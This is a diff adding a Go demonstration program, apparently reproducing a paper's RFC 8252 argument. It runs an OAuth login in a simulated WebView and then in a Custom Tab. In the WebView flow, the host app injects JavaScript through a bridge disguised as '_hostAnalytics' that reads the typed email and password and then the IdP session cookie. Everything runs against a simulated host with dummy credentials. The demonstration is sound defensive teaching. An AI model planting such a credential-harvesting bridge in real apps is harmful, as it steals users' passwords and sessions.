@@ -1,0 +1,137 @@
+// oauth-flows: the paper's authentication takeaway (§4.1.8, RFC 8252) as
+// a runnable demonstration. The same identity-provider login flow runs
+// twice:
+//
+//  1. in a WebView — where the embedding app injects JavaScript into the
+//     IdP's login page and captures the user's credentials as typed, and
+//     afterwards reads the IdP session cookie via CookieManager; and
+//  2. in a Custom Tab — where the app receives only engagement signals,
+//     has no handle on the page or cookies, and the user's existing
+//     browser session makes re-login unnecessary.
+package main
+
+import (
+	"context"
+	"fmt"
+	"log"
+	"net/http"
+	"net/http/cookiejar"
+
+	"repro/internal/customtabs"
+	"repro/internal/internet"
+	"repro/internal/jsvm"
+	"repro/internal/webview"
+)
+
+const loginPage = `<!DOCTYPE html>
+<html><head><title>IdP - Sign in</title></head><body>
+<form id="login" action="/session" method="post">
+  <input type="email" name="email" id="email">
+  <input type="password" name="password" id="password">
+  <button type="submit">Sign in</button>
+</form>
+</body></html>`
+
+func idpInternet() *internet.Internet {
+	net := internet.New()
+	net.RegisterFunc("idp.example", func(w http.ResponseWriter, r *http.Request) {
+		if _, err := r.Cookie("idp_session"); err == nil {
+			w.Write([]byte(`<html><head><title>IdP - Signed in</title></head><body>welcome back</body></html>`))
+			return
+		}
+		http.SetCookie(w, &http.Cookie{Name: "idp_session", Value: "sess-8c1f"})
+		w.Write([]byte(loginPage))
+	})
+	return net
+}
+
+func main() {
+	fmt.Println("=== Flow 1: OAuth login inside a WebView (what the paper warns about) ===")
+	webViewFlow()
+	fmt.Println()
+	fmt.Println("=== Flow 2: the same login in a Custom Tab (the RFC 8252 way) ===")
+	customTabFlow()
+}
+
+func webViewFlow() {
+	net := idpInternet()
+	jar, _ := cookiejar.New(nil)
+	wv := webview.New(webview.Config{
+		ID: "wv", AppPackage: "com.host.app",
+		Client: &http.Client{Jar: jar, Transport: net},
+	})
+	wv.GetSettings().JavaScriptEnabled = true
+
+	// The app plants a credential-harvesting bridge before the login page
+	// loads — nothing in the WebView API prevents this.
+	var captured []string
+	harvester := jsvm.NewObject()
+	harvester.SetFunc("submit", func(c jsvm.Call) (jsvm.Value, error) {
+		captured = append(captured, c.Arg(0).StringValue())
+		return jsvm.Undefined(), nil
+	})
+	wv.AddJavascriptInterface(harvester, "_hostAnalytics")
+
+	if err := wv.LoadURL(context.Background(), "https://idp.example/authorize"); err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("login page loaded: %q\n", wv.Page().Doc.Title)
+
+	// The user types their credentials (the user agent fills the DOM).
+	if _, err := wv.Page().Execute(`
+var email = document.getElementById("email");
+var pw = document.getElementById("password");
+email.setAttribute("value", "alice@example.com");
+pw.setAttribute("value", "hunter2");`); err != nil {
+		log.Fatal(err)
+	}
+
+	// The app's injected script reads the form before submission.
+	if err := wv.EvaluateJavascript(`
+var fields = document.querySelectorAll("input");
+var leak = [];
+for (var i = 0; i < fields.length; i++) {
+    var v = fields[i].getAttribute("value");
+    if (v) { leak.push(v); }
+}
+_hostAnalytics.submit(leak.join(":"));`, nil); err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("app captured the user's credentials: %v\n", captured)
+
+	// And afterwards the app reads the IdP session cookie.
+	cookie := wv.CookieManager().GetCookie("https://idp.example/")
+	fmt.Printf("app read the IdP session cookie:     %q\n", cookie)
+	fmt.Println("-> a WebView gives the host app the user's password AND session.")
+}
+
+func customTabFlow() {
+	net := idpInternet()
+	browser := customtabs.NewBrowser("com.android.chrome", nil)
+	browser.Client.Transport = net
+	browser.Warmup()
+
+	var signals []string
+	intent := customtabs.NewBuilder().
+		SetCallback(func(s customtabs.EngagementSignal) { signals = append(signals, s.Event) }).
+		SetAppPackage("com.host.app").
+		Build()
+
+	// First launch: the user signs in inside the browser context.
+	sess, err := browser.LaunchURL(context.Background(), intent, "https://idp.example/authorize")
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("first launch shows:  %q\n", sess.Title)
+	fmt.Printf("app observed only engagement signals: %v\n", signals)
+
+	// Second launch (any app on the device): the browser session persists,
+	// so the user is already signed in — no password ever re-enters an
+	// app-controlled surface.
+	sess2, err := browser.LaunchURL(context.Background(), intent, "https://idp.example/authorize")
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("second launch shows: %q (session persisted in the browser)\n", sess2.Title)
+	fmt.Println("-> a Custom Tab never exposes credentials, cookies or page content to the app.")
+}
